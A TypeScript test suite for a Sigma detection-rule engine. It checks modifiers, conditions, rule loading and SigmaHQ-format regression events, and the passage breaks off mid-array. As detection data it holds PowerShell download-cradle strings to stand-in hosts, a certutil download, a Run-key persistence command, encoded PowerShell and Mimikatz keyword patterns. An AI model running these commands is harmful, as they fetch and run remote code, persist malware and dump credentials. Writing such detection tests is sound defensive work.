import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { eventId, type SecurityEvent } from '../../core/index.js';
import { compileDetection } from './compile.js';
import { SigmaEngine, type SigmaEngineOptions } from './engine.js';
import { loadRuleDirs, parseRuleText, SigmaRuleError, type DetectionRuleDef } from './loader.js';
import { base64OffsetVariants, parseIp } from './match.js';

/** A json-logs-like event whose raw record carries the fields under test. */
function ev(raw: Record<string, unknown>, extra: Partial<SecurityEvent> = {}): SecurityEvent {
  return {
    '@timestamp': '2024-05-06T10:00:00.000Z',
    event: { id: eventId('test', raw), kind: 'event', category: ['web'], action: String(raw.action ?? 'request'), outcome: 'success', provider: 'test', dataset: 'test.app', ingested: '2024-05-06T10:00:00.000Z' },
    raw,
    ...extra,
  };
}

/** Compiles a rule whose detection is given as YAML lines (indented under `detection:`). */
function rule(detection: string, logsource = 'product: test', opts: Partial<SigmaEngineOptions> = {}): SigmaEngine {
  const text = `title: t\nid: r1\nlevel: high\nlogsource: { ${logsource} }\ndetection:\n${detection.replace(/^/gm, '  ')}\n`;
  return new SigmaEngine(parseRuleText(text, 'inline.yml', 'rules/inline'), opts);
}

const hits = (engine: SigmaEngine, e: SecurityEvent) => engine.matchingRules(e).length > 0;

describe('sigma value matching', () => {
  it('compares case-insensitively by default, and exactly with cased', () => {
    const r = rule('sel:\n  cmd: Whoami\ncondition: sel');
    expect(hits(r, ev({ cmd: 'WHOAMI' }))).toBe(true);
    expect(hits(r, ev({ cmd: 'whoami /all' }))).toBe(false);
    const c = rule('sel:\n  cmd|cased: Whoami\ncondition: sel');
    expect(hits(c, ev({ cmd: 'Whoami' }))).toBe(true);
    expect(hits(c, ev({ cmd: 'whoami' }))).toBe(false);
  });

  it('treats list values as OR, and all as AND', () => {
    const r = rule('sel:\n  app: [slack, zoom]\ncondition: sel');
    expect(hits(r, ev({ app: 'Zoom' }))).toBe(true);
    expect(hits(r, ev({ app: 'teams' }))).toBe(false);
    const a = rule("sel:\n  cmd|contains|all: ['net', 'user', '/add']\ncondition: sel");
    expect(hits(a, ev({ cmd: 'net user bob /add' }))).toBe(true);
    expect(hits(a, ev({ cmd: 'net user bob' }))).toBe(false);
  });

  it('supports * and ? wildcards and their escapes', () => {
    // A backslash before a wildcard escapes it, so a path separator followed by `*` is written `\\*`.
    const r = rule("sel:\n  path: 'C:\\Users\\\\*\\AppData\\\\??cal\\\\*.exe'\ncondition: sel");
    expect(hits(r, ev({ path: 'C:\\Users\\bob\\AppData\\Local\\evil.exe' }))).toBe(true);
    expect(hits(r, ev({ path: 'C:\\Users\\bob\\AppData\\Roaming\\evil.exe' }))).toBe(false);
    const lit = rule("sel:\n  q: 'what\\?'\ncondition: sel");
    expect(hits(lit, ev({ q: 'what?' }))).toBe(true);
    expect(hits(lit, ev({ q: 'whatx' }))).toBe(false);
    const star = rule("sel:\n  q: 'a\\*b'\ncondition: sel");
    expect(hits(star, ev({ q: 'a*b' }))).toBe(true);
    expect(hits(star, ev({ q: 'axxb' }))).toBe(false);
    const any = rule("sel:\n  q: '*'\ncondition: sel");
    expect(hits(any, ev({ q: '' }))).toBe(true);
    expect(hits(any, ev({}))).toBe(false);
  });

  it('contains, startswith, endswith', () => {
    expect(hits(rule('sel:\n  ua|contains: python\ncondition: sel'), ev({ ua: 'Python-urllib/3.11' }))).toBe(true);
    expect(hits(rule('sel:\n  ua|startswith: curl/\ncondition: sel'), ev({ ua: 'CURL/8.4' }))).toBe(true);
    expect(hits(rule('sel:\n  ua|startswith: curl/\ncondition: sel'), ev({ ua: 'x curl/8.4' }))).toBe(false);
    expect(hits(rule("sel:\n  to|endswith: '@gmail.com'\ncondition: sel"), ev({ to: 'Bob@GMAIL.com' }))).toBe(true);
    expect(hits(rule("sel:\n  to|endswith: '@gmail.com'\ncondition: sel"), ev({ to: 'bob@gmail.com.evil' }))).toBe(false);
  });

  it('re with i, m and s sub-modifiers, and PCRE inline flags', () => {
    expect(hits(rule("sel:\n  q|re: '^Admin-\\d+$'\ncondition: sel"), ev({ q: 'admin-12' }))).toBe(false);
    expect(hits(rule("sel:\n  q|re|i: '^Admin-\\d+$'\ncondition: sel"), ev({ q: 'admin-12' }))).toBe(true);
    expect(hits(rule("sel:\n  q|re: '(?i)^Admin'\ncondition: sel"), ev({ q: 'ADMIN' }))).toBe(true);
    expect(hits(rule("sel:\n  q|re|m: '^b$'\ncondition: sel"), ev({ q: 'a\nb\nc' }))).toBe(true);
    expect(hits(rule("sel:\n  q|re: '^b$'\ncondition: sel"), ev({ q: 'a\nb\nc' }))).toBe(false);
    expect(hits(rule("sel:\n  q|re|s: 'a.b'\ncondition: sel"), ev({ q: 'a\nb' }))).toBe(true);
    expect(hits(rule("sel:\n  q|re: 'a.b'\ncondition: sel"), ev({ q: 'a\nb' }))).toBe(false);
  });

  it('cidr for IPv4, IPv6 and IPv4-mapped IPv6', () => {
    const r = rule("sel:\n  ip|cidr: ['10.0.0.0/8', '2001:db8::/32', '192.0.2.7/32']\ncondition: sel");
    expect(hits(r, ev({ ip: '10.200.3.4' }))).toBe(true);
    expect(hits(r, ev({ ip: '11.0.0.1' }))).toBe(false);
    expect(hits(r, ev({ ip: '2001:DB8:0:1::5' }))).toBe(true);
    expect(hits(r, ev({ ip: '2001:db9::1' }))).toBe(false);
    expect(hits(r, ev({ ip: '::ffff:10.1.2.3' }))).toBe(true);
    expect(hits(r, ev({ ip: '192.0.2.7' }))).toBe(true);
    expect(hits(r, ev({ ip: '192.0.2.8' }))).toBe(false);
    expect(hits(r, ev({ ip: 'not-an-ip' }))).toBe(false);
    expect(parseIp('1::2:3:4:5:6:7')?.n).toBe(0x0001_0000_0002_0003_0004_0005_0006_0007n);
    expect(() => rule("sel:\n  ip|cidr: '10.0.0.0/33'\ncondition: sel")).toThrow(/invalid CIDR/);
  });

  it('base64 and base64offset', () => {
    const enc = Buffer.from('http://evil.example').toString('base64');
    expect(hits(rule("sel:\n  body|base64: 'http://evil.example'\ncondition: sel"), ev({ body: enc }))).toBe(true);
    const off = rule("sel:\n  body|base64offset|contains: 'secret-token'\ncondition: sel");
    // The value at each byte offset inside a longer base64 blob.
    for (const prefix of ['', 'a', 'ab', 'abc', 'xyzw']) {
      expect(hits(off, ev({ body: Buffer.from(`${prefix}secret-token and more`).toString('base64') }))).toBe(true);
    }
    expect(hits(off, ev({ body: Buffer.from('nothing here at all').toString('base64') }))).toBe(false);
    expect(base64OffsetVariants(Buffer.from('/bin/sh'))).toEqual(['L2Jpbi9za', '9iaW4vc2', 'vYmluL3No']);
  });

  it('windash expands flag dashes', () => {
    const r = rule("sel:\n  cmd|windash|contains: ' -enc '\ncondition: sel");
    for (const cmd of ['powershell -enc AAA', 'powershell /enc AAA', 'powershell \u2013enc AAA', 'powershell \u2014enc AAA']) expect(hits(r, ev({ cmd }))).toBe(true);
    expect(hits(r, ev({ cmd: 'powershell enc AAA' }))).toBe(false);
  });

  it('exists, null, and numeric comparisons', () => {
    const ex = rule('sel:\n  token|exists: true\ncondition: sel');
    expect(hits(ex, ev({ token: 'x' }))).toBe(true);
    expect(hits(ex, ev({}))).toBe(false);
    const nex = rule('sel:\n  token|exists: false\ncondition: sel');
    expect(hits(nex, ev({}))).toBe(true);
    const nul = rule('sel:\n  referrer: null\ncondition: sel');
    expect(hits(nul, ev({ referrer: null }))).toBe(true);
    expect(hits(nul, ev({}))).toBe(true);
    expect(hits(nul, ev({ referrer: 'x' }))).toBe(false);
    expect(hits(rule('sel:\n  size|gt: 1000\ncondition: sel'), ev({ size: 1001 }))).toBe(true);
    expect(hits(rule('sel:\n  size|gt: 1000\ncondition: sel'), ev({ size: 1000 }))).toBe(false);
    expect(hits(rule('sel:\n  size|gte: 1000\ncondition: sel'), ev({ size: '1000' }))).toBe(true);
    expect(hits(rule('sel:\n  size|lt: 10\ncondition: sel'), ev({ size: 9.5 }))).toBe(true);
    expect(hits(rule('sel:\n  size|lte: 10\ncondition: sel'), ev({ size: 11 }))).toBe(false);
    expect(hits(rule('sel:\n  size|lt: 10\ncondition: sel'), ev({ size: 'n/a' }))).toBe(false);
  });

  it('numbers and booleans match their string forms', () => {
    expect(hits(rule('sel:\n  code: 403\ncondition: sel'), ev({ code: '403' }))).toBe(true);
    expect(hits(rule('sel:\n  code: 403\ncondition: sel'), ev({ code: 403 }))).toBe(true);
    expect(hits(rule('sel:\n  flagged: true\ncondition: sel'), ev({ flagged: true }))).toBe(true);
    expect(hits(rule('sel:\n  flagged: true\ncondition: sel'), ev({ flagged: false }))).toBe(false);
  });

  it('keyword lists search every string of the raw and normalized event', () => {
    const r = rule("keywords:\n  - 'mimikatz'\n  - 'sekurlsa'\ncondition: keywords");
    expect(hits(r, ev({ msg: 'ran MimiKatz.exe' }))).toBe(true);
    expect(hits(r, ev({ msg: 'fine' }, { user: { email: 'sekurlsa@example.com' } }))).toBe(true);
    expect(hits(r, ev({ msg: 'fine' }))).toBe(false);
    const all = rule("keywords:\n  '|all': ['alpha', 'beta']\ncondition: keywords");
    expect(hits(all, ev({ a: 'alpha', b: { c: ['beta'] } }))).toBe(true);
    expect(hits(all, ev({ a: 'alpha' }))).toBe(false);
  });

  it('matches list-valued fields when any element matches', () => {
    const r = rule("sel:\n  related.ip|cidr: '203.0.113.0/24'\ncondition: sel");
    expect(hits(r, ev({}, { related: { ip: ['192.0.2.1', '203.0.113.9'] } }))).toBe(true);
    expect(hits(r, ev({}, { related: { ip: ['192.0.2.1'] } }))).toBe(false);
  });
});

describe('sigma conditions', () => {
  const det = `a:\n  x: 1\nb:\n  y: 1\nsel_c:\n  z: 1\nsel_d:\n  w: 1\n_helper:\n  h: 1\n`;
  const check = (cond: string, cases: Array<[Record<string, unknown>, boolean]>) => {
    const r = rule(`${det}condition: ${cond}`);
    for (const [raw, want] of cases) expect([cond, raw, hits(r, ev(raw))]).toEqual([cond, raw, want]);
  };

  it('and, or, not with precedence (not > and > or)', () => {
    check('a and b', [[{ x: 1, y: 1 }, true], [{ x: 1 }, false]]);
    check('a or b', [[{ y: 1 }, true], [{}, false]]);
    check('a and not b', [[{ x: 1 }, true], [{ x: 1, y: 1 }, false]]);
    check('a or b and sel_c', [[{ x: 1 }, true], [{ y: 1 }, false], [{ y: 1, z: 1 }, true]]);
    check('not a or b', [[{}, true], [{ x: 1 }, false], [{ x: 1, y: 1 }, true]]);
  });

  it('parentheses', () => {
    check('(a or b) and sel_c', [[{ x: 1 }, false], [{ x: 1, z: 1 }, true], [{ y: 1, z: 1 }, true]]);
    check('not (a or b)', [[{}, true], [{ y: 1 }, false]]);
    check('((a))', [[{ x: 1 }, true]]);
  });

  it('1 of / all of with patterns and them', () => {
    check('1 of sel_*', [[{ z: 1 }, true], [{ w: 1 }, true], [{ x: 1 }, false]]);
    check('all of sel_*', [[{ z: 1 }, false], [{ z: 1, w: 1 }, true]]);
    check('a and 1 of sel*', [[{ x: 1, w: 1 }, true], [{ w: 1 }, false]]);
    check('1 of them', [[{ x: 1 }, true], [{ h: 1 }, false]]);
    // `them` leaves out identifiers starting with an underscore.
    check('all of them', [[{ x: 1, y: 1, z: 1, w: 1 }, true], [{ x: 1, y: 1, z: 1 }, false]]);
    check('not 1 of sel_*', [[{ x: 1 }, true], [{ z: 1 }, false]]);
  });

  it('list-of-maps selections are OR of AND-maps', () => {
    const r = rule('sel:\n  - { x: 1, y: 1 }\n  - { z: 1 }\ncondition: sel');
    expect(hits(r, ev({ x: 1, y: 1 }))).toBe(true);
    expect(hits(r, ev({ x: 1 }))).toBe(false);
    expect(hits(r, ev({ z: 1 }))).toBe(true);
  });

  it('rejects bad conditions and modifiers with the file and field', () => {
    const bad = (detection: string) => () => rule(detection);
    expect(bad('a:\n  x: 1\ncondition: a and')).toThrow(/inline\.yml#1: detection\.condition: .*ends too early/);
    expect(bad('a:\n  x: 1\ncondition: a and b')).toThrow(/"b", which is not a search identifier/);
    expect(bad('a:\n  x: 1\ncondition: (a')).toThrow(/closing parenthesis/);
    expect(bad('a:\n  x: 1\ncondition: 1 of z*')).toThrow(/matches no search identifier/);
    expect(bad('a:\n  x: 1\ncondition: a | count() > 5')).toThrow(/correlation rule/);
    expect(bad('a:\n  x|contians: 1\ncondition: a')).toThrow(/detection\.a\.x\|contians: unknown modifier "contians"/);
    expect(bad("a:\n  x|re: '('\ncondition: a")).toThrow(/invalid regular expression/);
    expect(bad('a:\n  x|exists: yes\ncondition: a')).toThrow(SigmaRuleError);
  });

  it('honours the logsource', () => {
    const r = rule('sel:\n  x: 1\ncondition: sel', 'product: other');
    expect(hits(r, ev({ x: 1 }))).toBe(false);
    const cat = rule('sel:\n  x: 1\ncondition: sel', 'category: authentication');
    expect(hits(cat, ev({ x: 1 }))).toBe(false);
    expect(hits(cat, ev({ x: 1 }, { event: { ...ev({}).event, category: ['authentication'] } }))).toBe(true);
  });
});

describe('sigma loader', () => {
  it('validates required fields and names file, document and field', () => {
    expect(() => parseRuleText('title: x\nlogsource: {}\ndetection: { sel: { a: 1 } }\n', 'r.yml', 'k')).toThrow(/r\.yml#1: detection: detection needs a condition/);
    expect(() => parseRuleText('logsource: {}\ndetection: { sel: { a: 1 }, condition: sel }\n', 'r.yml', 'k')).toThrow(/r\.yml#1: title/);
    expect(() => parseRuleText('title: x\nlevel: urgent\nlogsource: {}\ndetection: { sel: { a: 1 }, condition: sel }\n', 'r.yml', 'k')).toThrow(/r\.yml#1: level/);
    expect(() => parseRuleText('title: x\ncorrelation: { type: event_count, rules: [a], timespan: soon, condition: { gte: 2 } }\n', 'c.yml', 'k')).toThrow(
      /c\.yml#1: correlation\.timespan/,
    );
    expect(() => parseRuleText('title: x\ncorrelation: { type: value_count, rules: [a], timespan: 5m, condition: { gte: 2 } }\n', 'c.yml', 'k')).toThrow(/condition\.field/);
    expect(() => parseRuleText('title: [\n', 'y.yml', 'k')).toThrow(/y\.yml#1: invalid YAML/);
  });

  it('reads multi-document files, keying each rule by name', () => {
    const defs = parseRuleText(
      'title: a\nname: first_rule\nlogsource: {}\ndetection: { s: { x: 1 }, condition: s }\n---\ntitle: b\nid: 123\ncorrelation: { type: event_count, rules: [first_rule], group-by: [user], timespan: 5m, condition: { gte: 3 } }\n',
      'm.yml',
      'rules/m',
    );
    expect(defs.map((d) => [d.kind, d.key])).toEqual([
      ['detection', 'rules/m/first-rule'],
      ['correlation', 'rules/m'],
    ]);
  });
});

describe('sigma modifier chains (pySigma order and typing)', () => {
  it('windash before or after contains, with pySigma\'s notion of a flag dash', () => {
    for (const key of ['cmd|contains|windash', 'cmd|windash|contains']) {
      const r = rule(`sel:\n  ${key}: ' -enc '\ncondition: sel`);
      for (const cmd of ['powershell -enc AAA', 'powershell /enc AAA', 'powershell \u2013enc AAA', 'powershell \u2014enc AAA', 'powershell \u2015enc AAA']) {
        expect([key, cmd, hits(r, ev({ cmd }))]).toEqual([key, cmd, true]);
      }
      expect(hits(r, ev({ cmd: 'powershell enc AAA' }))).toBe(false);
    }
    // A dash inside a word is not a flag; one after a quote or at the start of the value is.
    const inWord = rule("sel:\n  cmd|windash: 'a-b'\ncondition: sel");
    expect(hits(inWord, ev({ cmd: 'a/b' }))).toBe(false);
    expect(hits(inWord, ev({ cmd: 'a-b' }))).toBe(true);
    const quoted = rule("sel:\n  cmd|windash|contains: '\"-x'\ncondition: sel");
    expect(hits(quoted, ev({ cmd: 'run "/x"' }))).toBe(true);
    const start = rule("sel:\n  cmd|windash|startswith: '-s'\ncondition: sel");
    expect(hits(start, ev({ cmd: '/s /q' }))).toBe(true);
    // Many flags stay one compiled test rather than 5^n spellings.
    const many = rule(`sel:\n  cmd|contains|windash: '${Array.from({ length: 12 }, (_, i) => `-f${i}`).join(' ')}'\ncondition: sel`);
    expect(hits(many, ev({ cmd: `x ${Array.from({ length: 12 }, (_, i) => `${i % 2 ? '/' : '-'}f${i}`).join(' ')} y` }))).toBe(true);
  });

  it('wide, utf16le, utf16be and utf16 under base64 and base64offset', () => {
    const text = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')";
    const le = Buffer.from(text, 'utf16le');
    const be = Buffer.from(text, 'utf16le').swap16();
    // utf16 puts the byte order mark before the value itself, so it matches text that starts with it.
    const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text.slice(text.indexOf('DownloadString')), 'utf16le')]);
    const cases: Array<[string, Buffer]> = [
      ['wide', le],
      ['utf16le', le],
      ['utf16be', be],
      ['utf16', bom],
    ];
    for (const [mod, bytes] of cases) {
      const off = rule(`sel:\n  cmd|${mod}|base64offset|contains: 'DownloadString'\ncondition: sel`);
      expect([mod, hits(off, ev({ cmd: `powershell -enc ${bytes.toString('base64')}` }))]).toEqual([mod, true]);
      expect([mod, hits(off, ev({ cmd: `powershell -enc ${Buffer.from(text).toString('base64')}` }))]).toEqual([mod, false]);
    }
    const whole = rule(`sel:\n  cmd|utf16|base64: '${text.replace(/'/g, "''")}'\ncondition: sel`);
    expect(hits(whole, ev({ cmd: Buffer.concat([Buffer.from([0xff, 0xfe]), le]).toString('base64') }))).toBe(true);
    // Without an encoding after it, wide compares the UTF-16LE text itself.
    expect(hits(rule("sel:\n  blob|wide|contains: 'cmd'\ncondition: sel"), ev({ blob: `x${Buffer.from('cmd', 'utf16le').toString('latin1')}y` }))).toBe(true);
    // windash before an encoding encodes every dash spelling.
    const dash = rule("sel:\n  cmd|windash|base64offset|contains: ' -nop'\ncondition: sel");
    expect(hits(dash, ev({ cmd: Buffer.from('powershell /nop -w hidden').toString('base64') }))).toBe(true);
  });

  it('refuses the orders pySigma refuses, saying what to write instead', () => {
    const bad = (detection: string) => () => rule(detection);
    expect(bad("a:\n  x|contains|base64offset: 'abc'\ncondition: a")).toThrow(/inline\.yml#1: detection\.a\.x\|contains\|base64offset: modifier "base64offset" cannot apply to a string \(what "contains" made of the value\): it cannot encode wildcards; write base64offset\|contains/);
    expect(bad("a:\n  x|contains|re: 'abc'\ncondition: a")).toThrow(/"re" only applies to the value as written, so it must come before "contains"/);
    expect(bad("a:\n  x|i: 'abc'\ncondition: a")).toThrow(/"i" cannot apply to a string: it is a sub-modifier of "re", write re\|i/);
    expect(bad("a:\n  x|gt: 'many'\ncondition: a")).toThrow(/"gt" cannot apply to a string: it expects a number/);
    expect(bad("a:\n  x|fieldref: 'y*'\ncondition: a")).toThrow(/a field name has no wildcards/);
    expect(bad("a:\n  x|exists|contains: true\ncondition: a")).toThrow(/"contains" cannot apply to an exists test/);
  });

  it('fieldref compares two fields of one event, also with contains/startswith/endswith and neq', () => {
    const eq = rule('sel:\n  a|fieldref: b\ncondition: sel');
    expect(hits(eq, ev({ a: 'Bob', b: 'bob' }))).toBe(true);
    expect(hits(eq, ev({ a: 'bob', b: 'alice' }))).toBe(false);
    // An absent field equals nothing, not even another absent field.
    expect(hits(eq, ev({}))).toBe(false);
    expect(hits(eq, ev({ a: 'x', b: ['y', 'X'] }))).toBe(true);
    expect(hits(rule('sel:\n  arn|fieldref|contains: key.user\ncondition: sel'), ev({ arn: 'arn:aws:iam::1:user/alice', key: { user: 'alice' } }))).toBe(true);
    expect(hits(rule('sel:\n  arn|fieldref|contains: key.user\ncondition: sel'), ev({ arn: 'arn:aws:iam::1:user/alice', key: { user: 'bob' } }))).toBe(false);
    expect(hits(rule('sel:\n  path|fieldref|endswith: img\ncondition: sel'), ev({ path: 'D:\\copy\\C:\\a.exe', img: 'c:\\a.exe' }))).toBe(true);
    expect(hits(rule('sel:\n  path|fieldref|startswith: dir\ncondition: sel'), ev({ path: 'C:\\tmp\\a.exe', dir: 'C:\\tmp' }))).toBe(true);
    const neq = rule('sel:\n  a|fieldref|neq: b\ncondition: sel');
    expect(hits(neq, ev({ a: 'x', b: 'y' }))).toBe(true);
    expect(hits(neq, ev({ a: 'x', b: 'X' }))).toBe(false);
  });

  it('expand fills %name% from the configured placeholders, wildcards included, in any modifier order', () => {
    const placeholders = { admins: ['10.1.1.*', '192.0.2.7'], word: ['ab'] };
    const r = rule("sel:\n  ip|expand: '%admins%'\ncondition: sel", 'product: test', { placeholders });
    expect(hits(r, ev({ ip: '10.1.1.20' }))).toBe(true);
    expect(hits(r, ev({ ip: '192.0.2.7' }))).toBe(true);
    expect(hits(r, ev({ ip: '192.0.2.8' }))).toBe(false);
    for (const key of ['f|contains|expand', 'f|expand|contains']) {
      const c = rule(`sel:\n  ${key}: '%word%'\ncondition: sel`, 'product: test', { placeholders });
      expect([key, hits(c, ev({ f: 'zABz' })), hits(c, ev({ f: 'a b' }))]).toEqual([key, true, false]);
    }
    const cased = rule("sel:\n  f|expand|cased: 'x-%word%'\ncondition: sel", 'product: test', { placeholders });
    expect([hits(cased, ev({ f: 'x-ab' })), hits(cased, ev({ f: 'X-AB' }))]).toEqual([true, false]);
    const re = rule("sel:\n  f|re|expand: '^%word%\\d+$'\ncondition: sel", 'product: test', { placeholders });
    expect([hits(re, ev({ f: 'ab12' })), hits(re, ev({ f: 'xab12' }))]).toEqual([true, false]);
    // Without expand, %APPDATA% is text.
    expect(hits(rule("sel:\n  p|startswith: '%APPDATA%\\'\ncondition: sel"), ev({ p: '%APPDATA%\\evil.exe' }))).toBe(true);
  });

  it('an unconfigured placeholder fails the rule with the file, field, placeholder and fix, or skips it on request', () => {
    const detection = "sel:\n  x: 1\nfilter:\n  IpAddress|expand: '%Admins_Workstations%'\ncondition: sel and not filter";
    expect(() => rule(detection)).toThrow(
      "inline.yml#1: detection.filter.IpAddress|expand: placeholder %Admins_Workstations% is not configured: list its values under the sigma detector (placeholders: { Admins_Workstations: ['value', ...] }), or disable the rule",
    );
    const skipped = rule(detection, 'product: test', { missingPlaceholders: 'skip' });
    expect(hits(skipped, ev({ x: 1 }))).toBe(false);
    const [def] = parseRuleText(`title: t\nlogsource: { product: test }\ndetection:\n${detection.replace(/^/gm, '  ')}\n`, 'inline.yml', 'k') as DetectionRuleDef[];
    expect(compileDetection(def!, { missingPlaceholders: 'skip' })).toMatchObject({ actions: new Set(), unresolved: [{ field: 'detection.filter.IpAddress|expand', placeholder: 'Admins_Workstations' }] });
  });

  it('cased, exists as presence, re flags and PCRE spellings, neq, and date parts', () => {
    expect(hits(rule("sel:\n  f|cased|contains: 'Abc'\ncondition: sel"), ev({ f: 'xAbcx' }))).toBe(true);
    expect(hits(rule("sel:\n  f|contains|cased: 'Abc'\ncondition: sel"), ev({ f: 'xabcx' }))).toBe(false);
    // The specification's exists checks presence only: a null or empty field exists.
    const ex = rule('sel:\n  f|exists: true\ncondition: sel');
    expect([hits(ex, ev({ f: null })), hits(ex, ev({ f: '' })), hits(ex, ev({}))]).toEqual([true, true, false]);
    expect(hits(rule("sel:\n  f|re|i|m: '^admin$'\ncondition: sel"), ev({ f: 'x\nADMIN\ny' }))).toBe(true);
    expect(hits(rule("sel:\n  f|re|ignorecase: '^admin$'\ncondition: sel"), ev({ f: 'ADMIN' }))).toBe(true);
    expect(hits(rule("sel:\n  f|re: '^(?i)admin$'\ncondition: sel"), ev({ f: 'ADMIN' }))).toBe(true);
    expect(hits(rule("sel:\n  f|re: '\\Ause(?P<n>r)(?P=n)\\Z'\ncondition: sel"), ev({ f: 'userr' }))).toBe(true);
    expect(hits(rule("sel:\n  f|re: 123\ncondition: sel"), ev({ f: 'a123' }))).toBe(true);
    const neq = rule("sel:\n  f|neq:\n    - a\n    - b\ncondition: sel");
    expect([hits(neq, ev({ f: 'c' })), hits(neq, ev({ f: 'A' })), hits(neq, ev({}))]).toEqual([true, false, true]);
    const hour = rule('sel:\n  t|hour: 3\ncondition: sel');
    expect([hits(hour, ev({ t: '2024-05-06T03:59:00Z' })), hits(hour, ev({ t: '2024-05-06T04:00:00Z' })), hits(hour, ev({ t: 1714966200 }))]).toEqual([true, false, true]);
    expect(hits(rule('sel:\n  t|week: 19\ncondition: sel'), ev({ t: '2024-05-06T00:00:00Z' }))).toBe(true);
    expect(hits(rule('sel:\n  t|month: 5\ncondition: sel'), ev({ t: '2024-05-06T00:00:00Z' }))).toBe(true);
    expect(hits(rule('sel:\n  t|year: 2024\ncondition: sel'), ev({ t: 1714953600000 }))).toBe(true);
    expect(hits(rule('sel:\n  t|day: 6\ncondition: sel'), ev({ t: '2024-05-06T00:00:00Z' }))).toBe(true);
    expect(hits(rule('sel:\n  t|minute: 59\ncondition: sel'), ev({ t: '2024-05-06T03:59:00Z' }))).toBe(true);
  });

  it('keywords take modifier chains too', () => {
    const r = rule("keywords:\n  '|base64offset|contains': 'Invoke-Mimikatz'\ncondition: keywords");
    expect(hits(r, ev({ blob: Buffer.from('x; Invoke-Mimikatz -Dump').toString('base64') }))).toBe(true);
    const w = rule("keywords:\n  '|windash': ' -enc '\ncondition: keywords");
    expect(hits(w, ev({ cmd: 'powershell /enc AAA' }))).toBe(true);
  });
});

/**
 * Rules written after SigmaHQ's published ones (fixtures/sigmahq: every product family of the
 * repository, and the syntax they use), loaded the way the detector loads a rules folder.
 */
describe('SigmaHQ-format rule sample', () => {
  const dir = fileURLToPath(new URL('./fixtures/sigmahq/', import.meta.url));
  const defs = loadRuleDirs([dir]);
  const placeholders = { Admins_Workstations: ['10.1.1.*', '192.0.2.50'], ServiceAccounts: ['*\\svc_*'] };

  it('accepts every rule', () => {
    const refused: string[] = [];
    const detections = defs.filter((d): d is DetectionRuleDef => d.kind === 'detection');
    for (const d of detections) {
      try {
        compileDetection(d, { placeholders });
      } catch (err) {
        refused.push((err as Error).message);
      }
    }
    const products = new Set(detections.map((d) => d.logsource.product ?? d.logsource.category));
    console.log(`sigma conformance: ${detections.length - refused.length} of ${detections.length} SigmaHQ-format detection rules accepted (${products.size} products/categories), plus ${defs.length - detections.length} correlation`);
    expect(refused).toEqual([]);
    expect(detections.length).toBeGreaterThanOrEqual(70);
    // The whole sample also loads into one engine (correlations resolve their rules).
    expect(() => new SigmaEngine(defs, { placeholders })).not.toThrow();
  });

  it('refuses exactly the placeholder rules when no placeholders are configured, naming each', () => {
    const errors = defs
      .filter((d): d is DetectionRuleDef => d.kind === 'detection')
      .flatMap((d) => {
        try {
          compileDetection(d);
          return [];
        } catch (err) {
          return [(err as Error).message.replace(dir, '')];
        }
      });
    expect(errors.sort()).toEqual([
      expect.stringMatching(/^windows\/builtin\/security\/win_security_admin_share_non_admin\.yml#1: detection\.filter_main_admin\.IpAddress\|expand: placeholder %Admins_Workstations% is not configured/),
      expect.stringMatching(/^windows\/builtin\/security\/win_security_remote_registry_non_admin\.yml#1: detection\.filter_main\.IpAddress\|expand: placeholder %Admins_Workstations%/),
      expect.stringMatching(/^windows\/process_creation\/proc_creation_win_service_account_shell\.yml#1: detection\.selection_user\.User\|expand: placeholder %ServiceAccounts%/),
    ]);
  });

  /** Regression events after SigmaHQ's: for each rule a record that must match and one that must not. */
  const text = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a'); Invoke-WebRequest -Uri http://x.example/b; Start-BitsTransfer x; (New-Object Net.WebClient).DownloadFile('u','f')";
  const utf16 = (s: string) => Buffer.from(s, 'utf16le');
  const cases: Array<[file: string, match: Record<string, unknown>, noMatch: Record<string, unknown>]> = [
    ['windows/process_creation/proc_creation_win_powershell_encoded_flag', { Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell.exe \u2014enc SQBFAFgA' }, { Image: 'C:\\x\\powershell.exe', CommandLine: 'powershell.exe -File a.ps1' }],
    ['windows/process_creation/proc_creation_win_certutil_download', { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache /f http://x.example/a.exe a.exe' }, { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -f C:\\a C:\\b' }],
    ['windows/process_creation/proc_creation_win_reg_add_run_key', { Image: 'C:\\Windows\\System32\\reg.exe', CommandLine: 'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d c:\\u.exe /f' }, { Image: 'C:\\Windows\\System32\\reg.exe', CommandLine: 'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d c:\\u.exe' }],
    ['windows/process_creation/proc_creation_win_susp_base64_iex', { CommandLine: `powershell -c "$x='${Buffer.from('a; Invoke-Expression $b').toString('base64')}'"` }, { CommandLine: `powershell -c "$x='${Buffer.from('a; Invoke-Command $b').toString('base64')}'"` }],
    ['windows/process_creation/proc_creation_win_powershell_wide_base64', { CommandLine: `powershell -enc ${utf16(text).toString('base64')}` }, { CommandLine: `powershell -enc ${Buffer.from(text).toString('base64')}` }],
    ['windows/process_creation/proc_creation_win_powershell_wide_base64', { CommandLine: `x ${utf16(text).swap16().toString('base64')}` }, { CommandLine: 'x' }],
    ['windows/process_creation/proc_creation_win_powershell_wide_base64', { CommandLine: `x ${Buffer.concat([Buffer.from([0xff, 0xfe]), utf16('Start-BitsTransfer -Source u')]).toString('base64')}` }, { CommandLine: `x ${utf16('Start-BitsTransfer -Source u').toString('base64').slice(4)}` }],
    ['windows/process_creation/proc_creation_win_susp_cased_reversed', { CommandLine: 'powershell "ekovnI-noisserpxE"' }, { CommandLine: 'powershell "EKOVNI"' }],
    ['windows/process_creation/proc_creation_win_susp_parent_same_image', { Image: 'C:\\Users\\a\\AppData\\Local\\Temp\\x.exe', ParentImage: 'c:\\users\\a\\appdata\\local\\temp\\X.EXE' }, { Image: 'C:\\Users\\a\\AppData\\Local\\Temp\\x.exe', ParentImage: 'C:\\Windows\\explorer.exe' }],
    ['windows/process_creation/proc_creation_win_regex_obfuscation', { CommandLine: 'cmd /V /c %COMSPEC:~4,1%%COMSPEC:~-1,1%' }, { CommandLine: 'cmd /c echo %PATH%' }],
